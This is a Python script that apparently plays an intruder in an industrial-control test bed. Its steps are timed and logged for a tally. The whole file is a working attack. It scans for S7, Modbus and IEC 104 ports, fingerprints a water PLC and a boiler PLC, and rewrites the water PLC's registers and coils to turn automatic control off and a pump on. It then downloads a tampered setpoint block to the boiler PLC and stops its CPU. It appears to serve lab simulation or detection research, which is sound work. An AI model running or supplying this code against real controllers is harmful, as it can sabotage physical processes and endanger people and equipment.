"""The unknown host: scans, identifies, writes, exchanges a block, stops the PLC.

usage: intruder.py START SECONDS TALLY.json
"""
import socket
import struct
import sys

from snap7.type import Block

from addresses import BOILER, SCANNED, WATER
from clients import S7, Modbus
from tally import Tally

start, _, path = float(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
tally = Tally(start)


def log(what):
    tally.log("intruder", what)


tally.wait_until(50)
log(f"connect scan of {len(SCANNED)} addresses, ports 102, 502, 2404")
found = []
for address in SCANNED:
    for port in (102, 502, 2404):
        with socket.socket() as probe:
            probe.settimeout(0.15)
            if probe.connect_ex((address, port)) == 0:
                found.append((address, port))
log("scan ends, open: " + ", ".join(f"{address}:{port}" for address, port in found))

tally.wait_until(61)
modbus = Modbus(WATER, tally)
assert modbus.connect()
log("reads the water PLC's Modbus device identification and server id")
modbus.read_device_information(read_code=1, object_id=0, device_id=1)
modbus.read_device_information(read_code=3, object_id=0, device_id=1)
modbus.report_device_id(device_id=1)
modbus.read_holding_registers(0, count=10, device_id=1)

tally.wait_until(63)
log("reads the boiler PLC's system status lists and block lists")
s7 = S7(BOILER, tally)
s7.read_szl_list()
s7.get_order_code()
s7.get_cpu_info()
s7.get_protection()
s7.cpu_state()
s7.list_blocks()
for kind in (Block.OB, Block.FB, Block.FC, Block.DB):
    for number in s7.list_blocks_of_type(kind, 50):
        s7.get_block_info(kind, number)

tally.wait_until(67)
log("writes the water PLC: switching points (holding registers 0-1), automatic off, pump on (coils 2 and 0)")
assert not modbus.write_registers(0, [3900, 4000], device_id=1).isError()
assert not modbus.write_coil(2, False, device_id=1).isError()
assert not modbus.write_coils(0, [True, True], device_id=1).isError()
assert not modbus.write_register(3, 1000, device_id=1).isError()
modbus.close()

tally.wait_until(72)
log("uploads OB1 and DB2 from the boiler PLC")
s7.full_upload(Block.OB, 1)
image, size = s7.full_upload(Block.DB, 2)

tally.wait_until(76)
log("downloads a changed DB2 (setpoints) to the boiler PLC and links it in")
image = bytearray(image[:size])
struct.pack_into(">ffff", image, 36, 3900.0, 4000.0, 1500.0, 100.0)
s7.download(image, 2)
s7.invoke(b"_INSE", b"\x01\x000A00002P")
assert s7.db_read_real(2, 0) == 3900.0

tally.wait_until(90)
log("stops the boiler PLC")
s7.plc_stop()
assert s7.cpu_state() == "STOP"
s7.disconnect()
tally.save(path)
